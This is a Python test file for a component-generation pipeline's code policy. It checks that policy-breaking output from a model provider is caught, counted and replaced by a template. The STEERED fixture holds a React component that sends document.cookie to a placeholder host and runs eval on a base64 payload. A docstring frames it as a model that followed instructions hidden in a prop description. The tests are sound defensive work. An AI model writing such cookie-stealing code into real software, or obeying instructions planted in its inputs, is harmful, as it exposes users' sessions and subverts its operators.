"""generate_code replaces a provider's code that breaks the code policy with the
template's (counting each finding), and validate_quality fails code that breaks it."""

from __future__ import annotations

from prometheus_client import REGISTRY

from core.requirements import Requirements
from core.spec import JobSpec
from workers.chain.providers.template import TemplateProvider
from workers.chain.steps import STEPS, GenerateCode, ValidateQuality
from workers.chain.types import ChainContext, GeneratedCode

STEERED = """import React from "react";

export interface LeakyButtonProps { label: string; }

export function LeakyButton({ label }: LeakyButtonProps): React.ReactElement {
  fetch("https://x/?c=" + document.cookie);
  eval(atob("YWxlcnQoMSk="));
  return <button type="button" aria-label="<i>x</i>">{label}</button>;
}

export default LeakyButton;
"""


class SteeredProvider:
    """A provider whose model followed instructions hidden in a prop description."""

    name = "steered"
    model = "m"

    def propose_requirements(self, ctx: ChainContext) -> Requirements:
        raise AssertionError("requirements are given")

    def generate_code(self, ctx: ChainContext) -> GeneratedCode:
        stories = 'import { LeakyButton } from "./component";\nimport x from "<b>evil</b>";\n'
        return GeneratedCode(STEERED, stories)


def spec() -> JobSpec:
    return JobSpec.model_validate(
        {
            "component_name": "LeakyButton",
            "component_type": "button",
            "source": {"figma_file_key": "k"},
            "tokens": {"colors": {"primary": "#2563eb"}},
            "requirements": {"props": [{"name": "label", "type": "string", "required": True}]},
        }
    )


def violations(rule: str) -> float:
    return REGISTRY.get_sample_value("code_policy_violations_total", {"rule": rule}) or 0.0


def run_steps(provider: object) -> ChainContext:
    ctx = ChainContext(spec=spec())
    for step in STEPS:
        step.run(ctx, provider)  # type: ignore[arg-type]
    return ctx


def test_steered_code_is_replaced_by_the_template_and_counted() -> None:
    rules = ("network", "cookie", "eval", "decoder", "import")
    before = {rule: violations(rule) for rule in rules}

    ctx = run_steps(SteeredProvider())

    assert ctx.code is not None and "document.cookie" not in ctx.code.component_tsx
    assert "const tokenStyle = {" in ctx.code.component_tsx  # the template's
    assert {rule: violations(rule) - n for rule, n in before.items()} == {
        "network": 1, "cookie": 1, "eval": 1, "decoder": 1, "import": 1}  # fmt: skip
    policy = ctx.quality["policy"]
    assert policy["action"] == "fell back to the template"
    assert {f["rule"] for f in policy["findings"]} == set(rules)
    assert policy["final_findings"] == []
    assert ctx.quality["passed"] is True
    assert any("broke the code policy" in note for note in ctx.notes)
    assert "<h2>Code policy</h2>" in ctx.report_html
    assert "fell back to the template" in ctx.report_html
    assert "&lt;b&gt;evil&lt;/b&gt;" in ctx.report_html and "<b>evil" not in ctx.report_html


def test_clean_code_from_a_provider_is_kept() -> None:
    ctx = ChainContext(spec=spec())
    for step in STEPS[:3]:
        step.run(ctx, TemplateProvider())
    GenerateCode().run(ctx, TemplateProvider())
    assert ctx.code_policy == {}


def test_final_code_that_breaks_the_policy_fails_the_quality_gate() -> None:
    ctx = run_steps(TemplateProvider())
    assert ctx.quality["passed"] is True and ctx.code is not None
    bad = ctx.code.component_tsx.replace(
        "React.ReactElement {", 'React.ReactElement {\n  localStorage.setItem("k", "<v>");', 1
    )
    ctx.code = GeneratedCode(bad, ctx.code.stories_tsx)

    ValidateQuality().run(ctx, TemplateProvider())

    assert ctx.quality["passed"] is False
    [check] = [c for c in ctx.quality["checks"] if c["name"].startswith("policy: ")]
    assert check["name"] == "policy: storage" and check["passed"] is False
    assert [f["rule"] for f in ctx.quality["policy"]["final_findings"]] == ["storage"]
    assert "policy: storage" in ctx.report_html
